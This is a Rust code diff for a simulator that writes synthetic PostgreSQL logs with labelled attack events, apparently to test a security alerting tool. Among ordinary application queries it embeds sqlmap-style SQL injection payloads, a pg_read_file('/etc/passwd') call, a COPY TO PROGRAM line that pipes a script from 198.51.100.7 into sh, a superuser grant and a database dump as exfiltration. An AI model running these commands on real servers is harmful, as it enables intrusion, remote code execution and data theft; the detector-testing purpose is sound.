@@ -349,26 +349,27 @@ impl Log {
         db: &str,
         app: &str,
     ) -> std::io::Result<()> {
-        self.statement(t, ip, role, db, app, None)
+        self.statements(t, ip, role, db, app, &[])
     }
 
-    /// A session, running one statement when given (logged as with `log_statement = 'ddl'`).
-    fn statement(
+    /// A session running statements (logged as with `log_statement = 'all'`).
+    fn statements(
         &mut self,
         t: EventTime,
         ip: IpAddr,
         role: &str,
         db: &str,
         app: &str,
-        stmt: Option<&str>,
+        stmts: &[String],
     ) -> std::io::Result<()> {
         self.received(t, ip)?;
         let msg =
             format!("connection authorized: user={role} database={db} application_name={app}");
         self.entry(t, ip, role, db, "", "LOG", "00000", msg, None)?;
-        if let Some(stmt) = stmt {
+        for (i, stmt) in stmts.iter().enumerate() {
             let msg = format!("statement: {stmt}");
-            self.entry(t + 1000, ip, role, db, app, "LOG", "00000", msg, None)?;
+            let at = t + 1000 + 100 * i as i64;
+            self.entry(at, ip, role, db, app, "LOG", "00000", msg, None)?;
         }
         let msg = format!(
             "disconnection: session time: 0:00:05.000 user={role} database={db} host={ip} port={}",
@@ -413,11 +414,55 @@ impl Log {
     }
 }
 
+/// What an application session runs: the everyday queries, literals and all.
+fn app_statements(rng: &mut Rng, role: &str) -> Vec<String> {
+    let n = rng.below(100_000);
+    match (role, rng.below(4)) {
+        ("orders", 0) => vec![format!(
+            "SELECT id, total, status FROM orders WHERE customer_id = {n} AND status = 'open'"
+        )],
+        ("orders", 1) => vec![
+            "BEGIN".into(),
+            format!("UPDATE orders SET status = 'paid', paid_at = now() WHERE id = {n}"),
+            format!("INSERT INTO audit_log(at, actor, action) VALUES (now(), 'orders', 'paid {n}')"),
+            "COMMIT".into(),
+        ],
+        ("orders", 2) => vec![
+            "SELECT * FROM orders WHERE 1=1 AND created_at > '2026-01-01' ORDER BY id DESC LIMIT 50"
+                .into(),
+        ],
+        ("billing", 0) => vec![format!(
+            "SELECT sum(amount) FROM invoices WHERE period = '2026-{:02}' AND customer_id = {n}",
+            1 + n % 12
+        )],
+        ("billing", 1) => vec![format!(
+            "INSERT INTO invoices(customer_id, amount) VALUES ({n}, {}.{:02}) RETURNING id",
+            n % 900,
+            n % 100
+        )],
+        _ => vec![],
+    }
+}
+
+/// What pg_dump runs, in short.
+fn dump_statements() -> Vec<String> {
+    [
+        "SELECT pg_catalog.set_config('search_path', '', false)",
+        "LOCK TABLE public.orders IN ACCESS SHARE MODE",
+        "LOCK TABLE public.invoices IN ACCESS SHARE MODE",
+        "COPY public.orders (id, customer_id, total, status) TO stdout;",
+        "COPY public.invoices (id, customer_id, amount) TO stdout;",
+    ]
+    .iter()
+    .map(|s| s.to_string())
+    .collect()
+}
+
 /// An entry of the simulated timeline, written in time order at the end.
 enum Act {
     Session(IpAddr, String, &'static str, &'static str),
-    /// A session running one statement: (address, role, statement).
-    Statement(IpAddr, String, String),
+    /// A session running statements: (address, role, database, application, statements).
+    Work(IpAddr, String, &'static str, &'static str, Vec<String>),
     Failure(IpAddr, String, &'static str, bool),
     Probe(IpAddr),
 }
@@ -465,9 +510,10 @@ pub fn simulate(
         for (i, role) in ["orders", "billing"].iter().enumerate() {
             let mut t = cfg.start + i as i64 * 137_000;
             while t < end {
+                let work = app_statements(&mut rng, role);
                 acts.push((
                     t,
-                    Act::Session(*rng.pick(home_cloud), role.to_string(), "appdb", "pgx"),
+                    Act::Work(*rng.pick(home_cloud), role.to_string(), "appdb", "pgx", work),
                 ));
                 t += 10 * minute + rng.below(60_000) as i64;
             }
@@ -511,7 +557,7 @@ pub fn simulate(
                 .unwrap_or(IpAddr::V4(Ipv4Addr::LOCALHOST));
             acts.push((
                 cfg.start + d * day + 2 * 3_600_000,
-                Act::Session(ip, "etl".into(), "appdb", "nightly"),
+                Act::Work(ip, "etl".into(), "appdb", "pg_dump", dump_statements()),
             ));
         }
         // Legitimate changes after the learning period: a new admin, a new application, each
@@ -520,18 +566,25 @@ pub fn simulate(
         let office = *rng.pick(&de);
         acts.push((
             change - 1_800_000,
-            Act::Statement(
+            Act::Work(
                 office,
                 "carol".into(),
-                "CREATE ROLE dave_admin LOGIN CREATEROLE PASSWORD 'Welcome-2026!'".into(),
+                "appdb",
+                "DBeaver 24.1",
+                vec!["CREATE ROLE dave_admin LOGIN CREATEROLE PASSWORD 'Welcome-2026!'".into()],
             ),
         ));
         acts.push((
             change + 1_800_000,
-            Act::Statement(
+            Act::Work(
                 office,
                 "carol".into(),
-                "CREATE USER reports PASSWORD 'rep0rts-Svc'".into(),
+                "appdb",
+                "DBeaver 24.1",
+                vec![
+                    "CREATE USER reports PASSWORD 'rep0rts-Svc'".into(),
+                    "GRANT SELECT ON ALL TABLES IN SCHEMA public TO reports".into(),
+                ],
             ),
         ));
         for k in 0..5 {
@@ -550,7 +603,7 @@ pub fn simulate(
         let mut named: std::collections::HashSet<IpAddr> = ptr.iter().map(|(ip, _)| *ip).collect();
         for (_, a) in &acts {
             let ip = match a {
-                Act::Session(ip, ..) | Act::Statement(ip, ..) => *ip,
+                Act::Session(ip, ..) | Act::Work(ip, ..) => *ip,
                 _ => continue,
             };
             if !named.insert(ip) || classify(ip) != AddressClass::Public {
@@ -731,6 +784,46 @@ pub fn simulate(
         acts.push((t, Act::Session(src, "alice".into(), "appdb", "psql")));
         label(AlertType::DomainAnomaly, src.to_string(), Some("alice"), t);
 
+        // SQL injection through the orders application: sqlmap's payloads in its queries.
+        let t = next(&mut rng);
+        let payloads = [
+            "1 AND 4521=4521",
+            "1 AND 4521=7390",
+            "1 AND 7290=(SELECT 7290 FROM PG_SLEEP(5))",
+            "1;SELECT PG_SLEEP(5)--",
+            "1 UNION ALL SELECT NULL,NULL,NULL-- x",
+            "1 UNION ALL SELECT NULL,(CHR(113)||CHR(106)||CHR(98)||CHR(107)||CHR(113)),NULL-- x",
+            "1 AND 5521=(SELECT COUNT(*) FROM GENERATE_SERIES(1,5000000))",
+        ];
+        let work = payloads
+            .iter()
+            .map(|p| format!("SELECT id, total, status FROM orders WHERE id = {p}"))
+            .collect();
+        acts.push((
+            t,
+            Act::Work(*rng.pick(home_cloud), "orders".into(), "appdb", "pgx", work),
+        ));
+        label(AlertType::SqlInjection, "orders".into(), Some("orders"), t);
+        // A stolen superuser password: commands on the server, its files read.
+        let t = next(&mut rng);
+        let src = *rng.pick(&us);
+        let work = vec![
+            "SELECT pg_read_file('/etc/passwd')".into(),
+            "COPY (SELECT '') TO PROGRAM 'curl -s http://198.51.100.7/x.sh | sh'".into(),
+        ];
+        acts.push((t, Act::Work(src, "postgres".into(), "postgres", "psql", work)));
+        label(AlertType::UnsafeAction, src.to_string(), Some("postgres"), t);
+        // An admin's session makes an application role superuser.
+        let t = next(&mut rng);
+        let work = vec!["ALTER ROLE billing WITH SUPERUSER".into()];
+        acts.push((t, Act::Work(office, "carol".into(), "appdb", "DBeaver 24.1", work)));
+        label(AlertType::PrivilegeEscalation, office.to_string(), Some("carol"), t);
+        // The billing role's password used to dump the database from elsewhere.
+        let t = next(&mut rng);
+        let src = *rng.pick(&jp);
+        acts.push((t, Act::Work(src, "billing".into(), "appdb", "pg_dump", dump_statements())));
+        label(AlertType::DataExfiltration, src.to_string(), Some("billing"), t);
+
         acts.sort_by_key(|(t, _)| *t);
         let dir = out.join(&server);
         std::fs::create_dir_all(&dir)?;
@@ -747,8 +840,8 @@ pub fn simulate(
         for (t, a) in acts {
             match a {
                 Act::Session(ip, role, db, app) => log.session(t, ip, &role, db, app)?,
-                Act::Statement(ip, role, stmt) => {
-                    log.statement(t, ip, &role, "appdb", "DBeaver 24.1", Some(&stmt))?
+                Act::Work(ip, role, db, app, stmts) => {
+                    log.statements(t, ip, &role, db, app, &stmts)?
                 }
                 Act::Failure(ip, role, db, exists) => log.failure(t, ip, &role, db, exists)?,
                 Act::Probe(ip) => log.probe(t, ip)?,
